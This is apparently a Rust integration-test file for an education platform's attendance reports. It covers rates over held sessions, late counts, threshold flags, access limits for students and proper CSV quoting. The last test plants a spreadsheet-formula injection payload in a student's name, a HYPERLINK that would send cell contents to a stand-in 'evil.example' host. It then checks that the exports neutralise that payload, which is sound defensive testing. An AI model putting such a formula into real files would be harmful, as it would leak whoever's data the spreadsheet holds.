//! Attendance reports on the demo's month of marks: each rate is (present + late) over the
//! sessions held, late counted apart, those under the threshold highlighted; students see
//! their own record and no one else's; every report comes as CSV, quoted properly.

use hub_tests::{user_id, Caller};
use serde_json::json;
use sqlx::PgPool;

async fn running(pool: &PgPool) -> i64 {
    sqlx::query_scalar!("select id from cohorts where status = 'running'").fetch_one(pool).await.unwrap()
}

/// How many sessions of the cohort have been held (dated today or earlier).
async fn held(pool: &PgPool, cohort: i64) -> i64 {
    sqlx::query_scalar!(
        r#"select count(*) as "n!" from sessions where cohort_id = $1 and date <= current_date"#,
        cohort
    )
    .fetch_one(pool)
    .await
    .unwrap()
}

#[sqlx::test(migrator = "hub_core::MIGRATOR")]
async fn a_cohort_report_gives_each_students_rate_over_the_sessions_held(pool: PgPool) {
    hub_core::demo::seed(&pool).await.unwrap();
    let cohort = running(&pool).await;
    let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
    let report = lina
        .call_json("attendance.report_cohort", json!({ "cohort_id": cohort, "threshold": 0.9 }))
        .await
        .unwrap();
    let held = held(&pool, cohort).await;
    assert_eq!(report["sessions_held"], held);
    let students = report["students"].as_array().unwrap();
    let dropped: i64 = sqlx::query_scalar!(
        r#"select count(*) as "n!" from enrollments where cohort_id = $1 and status <> 'dropped'"#,
        cohort
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(students.len() as i64, dropped, "every student but those who dropped");
    for student in students {
        let counted = sqlx::query!(
            r#"select count(*) filter (where r.status in ('present', 'late')) as "attended!",
                      count(*) filter (where r.status = 'late') as "late!"
                 from attendance_records r join sessions s on s.id = r.session_id
                where r.enrollment_id = $1 and s.date <= current_date"#,
            student["enrollment_id"].as_i64().unwrap()
        )
        .fetch_one(&pool)
        .await
        .unwrap();
        let rate = student["rate"].as_f64().unwrap();
        assert!((rate - counted.attended as f64 / held as f64).abs() < 1e-9, "{student}");
        assert_eq!(student["late"], counted.late, "late counted apart");
        let status: String = sqlx::query_scalar!(
            "select status from enrollments where id = $1",
            student["enrollment_id"].as_i64().unwrap()
        )
        .fetch_one(&pool)
        .await
        .unwrap();
        assert_eq!(student["enrollment_status"], status.as_str());
        // A paused student is not on the roster to be marked: never flagged for it.
        assert_eq!(student["below"], status != "paused" && rate < 0.9, "{student}");
    }
    assert!(students.iter().any(|student| student["below"] == true), "the demo has someone under 90%");
    let paused = students.iter().find(|student| student["enrollment_status"] == "paused");
    let paused = paused.expect("the demo's running cohort has a paused student");
    assert!(paused["rate"].as_f64().unwrap() < 0.9 && paused["below"] == false, "{paused}");
    let sara = Caller::as_user(&pool, user_id(&pool, "sara@demo.digitalhub.dev").await);
    let refused =
        sara.call_json("attendance.report_cohort", json!({ "cohort_id": cohort })).await.unwrap_err();
    assert_eq!(refused.kind, hub_model::ErrorKind::Forbidden);
    lina.refused(
        "attendance.report_cohort",
        json!({ "cohort_id": cohort, "threshold": 1.5 }),
        "threshold",
        "between 0 and 1",
    )
    .await;
}

#[sqlx::test(migrator = "hub_core::MIGRATOR")]
async fn a_student_sees_their_own_record_and_no_one_elses(pool: PgPool) {
    hub_core::demo::seed(&pool).await.unwrap();
    let nour = Caller::as_user(&pool, user_id(&pool, "student@demo.digitalhub.dev").await);
    let mine = nour.call_json("attendance.mine", json!({})).await.unwrap();
    let record = &mine[0];
    let sessions = record["sessions"].as_array().unwrap();
    assert!(!sessions.is_empty());
    let marked = sessions.iter().filter(|session| !session["status"].is_null()).count() as i64;
    let rate = &record["rate"];
    assert_eq!(
        rate["present"].as_i64().unwrap()
            + rate["late"].as_i64().unwrap()
            + rate["absent"].as_i64().unwrap()
            + rate["excused"].as_i64().unwrap(),
        marked
    );
    let someone_else: i64 = sqlx::query_scalar!(
        "select e.id from enrollments e join users u on u.id = e.student_user_id
          where u.email <> 'student@demo.digitalhub.dev' and e.status = 'active' limit 1"
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    let refused = nour
        .call_json("attendance.report_student", json!({ "enrollment_id": someone_else }))
        .await
        .unwrap_err();
    assert_eq!(refused.kind, hub_model::ErrorKind::Forbidden);
    let own = rate["enrollment_id"].clone();
    nour.call_json("attendance.report_student", json!({ "enrollment_id": own })).await.unwrap();
}

#[sqlx::test(migrator = "hub_core::MIGRATOR")]
async fn every_report_comes_as_csv_with_its_fields_quoted(pool: PgPool) {
    hub_core::demo::seed(&pool).await.unwrap();
    let cohort = running(&pool).await;
    let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
    let session: i64 = sqlx::query_scalar!(
        "select id from sessions where cohort_id = $1 and date <= current_date order by date desc limit 1",
        cohort
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    let roster = lina.call_json("attendance.roster", json!({ "id": session })).await.unwrap();
    let student = roster["students"][0].clone();
    lina.call_json(
        "attendance.mark",
        json!({ "session_id": session, "enrollment_id": student["enrollment_id"], "status": "late",
                "note": "Said \"sorry\", then sat down, quietly" }),
    )
    .await
    .unwrap();
    let by_session = lina
        .call_json("attendance.export_csv", json!({ "report": "session", "session_id": session }))
        .await
        .unwrap();
    let text = by_session["content"].as_str().unwrap();
    assert!(text.starts_with("student,mark,note,marked by,marked at\n"), "{text}");
    assert!(text.contains("late,\"Said \"\"sorry\"\", then sat down, quietly\""), "{text}");
    let students: i64 = sqlx::query_scalar!(
        r#"select count(*) as "n!" from enrollments where cohort_id = $1 and status <> 'dropped'"#,
        cohort
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(
        text.lines().count() as i64,
        students + 1,
        "a line per student (paused ones too), and the header"
    );
    assert!(by_session["filename"].as_str().unwrap().ends_with(".csv"));

    let by_cohort = lina
        .call_json("attendance.export_csv", json!({ "report": "cohort", "cohort_id": cohort }))
        .await
        .unwrap();
    assert!(by_cohort["content"].as_str().unwrap().starts_with(
        "student,enrollment,present,late,absent,excused,sessions held,rate %,below threshold\n"
    ));
    assert_eq!(by_cohort["filename"], "attendance-autumn-2026.csv");
    // The threshold chosen on screen is the one the file marks by.
    let below = |csv: &serde_json::Value| {
        csv["content"].as_str().unwrap().lines().filter(|line| line.ends_with(",yes")).count()
    };
    let strict = lina
        .call_json(
            "attendance.export_csv",
            json!({ "report": "cohort", "cohort_id": cohort, "threshold": 0.95 }),
        )
        .await
        .unwrap();
    let on_screen = lina
        .call_json("attendance.report_cohort", json!({ "cohort_id": cohort, "threshold": 0.95 }))
        .await
        .unwrap();
    let on_screen = on_screen["students"].as_array().unwrap().iter().filter(|s| s["below"] == true).count();
    let nobody = lina
        .call_json(
            "attendance.export_csv",
            json!({ "report": "cohort", "cohort_id": cohort, "threshold": 0.0 }),
        )
        .await
        .unwrap();
    assert_eq!(below(&nobody), 0);
    assert_eq!(below(&strict), on_screen, "the file marks whom the screen highlights");
    assert!(below(&strict) >= below(&by_cohort) && on_screen > 0);
    let by_student = lina
        .call_json(
            "attendance.export_csv",
            json!({ "report": "student", "enrollment_id": student["enrollment_id"] }),
        )
        .await
        .unwrap();
    assert!(by_student["content"].as_str().unwrap().starts_with("date,session,mark,note\n"));
}

#[sqlx::test(migrator = "hub_core::MIGRATOR")]
async fn each_session_held_is_reported_with_its_marks_counted(pool: PgPool) {
    hub_core::demo::seed(&pool).await.unwrap();
    let cohort = running(&pool).await;
    let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
    let sessions =
        lina.call_json("attendance.report_sessions", json!({ "cohort_id": cohort })).await.unwrap();
    let sessions = sessions.as_array().unwrap();
    let held = held(&pool, cohort).await;
    assert_eq!(sessions.len() as i64, held, "every session held, none to come");
    let latest = &sessions[0];
    let counted = sqlx::query!(
        r#"select count(*) filter (where status = 'present') as "present!", count(*) filter (where status = 'absent') as "absent!"
             from attendance_records where session_id = $1"#,
        latest["session_id"].as_i64().unwrap()
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    assert_eq!(
        (latest["present"].as_i64(), latest["absent"].as_i64()),
        (Some(counted.present), Some(counted.absent))
    );
    let dates: Vec<&str> = sessions.iter().map(|session| session["date"].as_str().unwrap()).collect();
    let mut newest_first = dates.clone();
    newest_first.sort_unstable_by(|a, b| b.cmp(a));
    assert_eq!(dates, newest_first, "the latest first");
    let sara = Caller::as_user(&pool, user_id(&pool, "sara@demo.digitalhub.dev").await);
    let refused =
        sara.call_json("attendance.report_sessions", json!({ "cohort_id": cohort })).await.unwrap_err();
    assert_eq!(refused.kind, hub_model::ErrorKind::Forbidden);
}

/// A name or a note that a spreadsheet would run as a formula (a student renaming themselves
/// `=HYPERLINK(…)`) is written as text in every export an administrator opens.
#[sqlx::test(migrator = "hub_core::MIGRATOR")]
async fn a_name_or_a_note_a_spreadsheet_would_run_is_exported_as_text(pool: PgPool) {
    hub_core::demo::seed(&pool).await.unwrap();
    let cohort = running(&pool).await;
    let lina = Caller::as_user(&pool, user_id(&pool, "lead@demo.digitalhub.dev").await);
    let nour_id = user_id(&pool, "student@demo.digitalhub.dev").await;
    let nour = Caller::as_user(&pool, nour_id);
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Nour\")";
    nour.call_json("profiles.update_mine", json!({ "full_name": formula })).await.unwrap();
    let (session, enrollment) = sqlx::query!(
        "select s.id as session, e.id as enrollment from sessions s join enrollments e on e.cohort_id = s.cohort_id
          where s.cohort_id = $1 and s.date <= current_date and e.student_user_id = $2
          order by s.date desc limit 1",
        cohort,
        nour_id
    )
    .fetch_one(&pool)
    .await
    .map(|row| (row.session, row.enrollment))
    .unwrap();
    lina.call_json(
        "attendance.mark",
        json!({ "session_id": session, "enrollment_id": enrollment, "status": "late", "note": "@SUM(1+1)" }),
    )
    .await
    .unwrap();

    for report in [
        json!({ "report": "session", "session_id": session }),
        json!({ "report": "cohort", "cohort_id": cohort }),
        json!({ "report": "student", "enrollment_id": enrollment }),
    ] {
        let file = lina.call_json("attendance.export_csv", report.clone()).await.unwrap();
        let cells: Vec<String> = csv::Reader::from_reader(file["content"].as_str().unwrap().as_bytes())
            .records()
            .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        let runnable: Vec<&String> =
            cells.iter().filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])).collect();
        assert_eq!(runnable, Vec::<&String>::new(), "{report}");
        let expected =
            if report["report"] == "student" { "'@SUM(1+1)".to_owned() } else { format!("'{formula}") };
        assert!(cells.contains(&expected), "{report}: {cells:?}");
    }
}
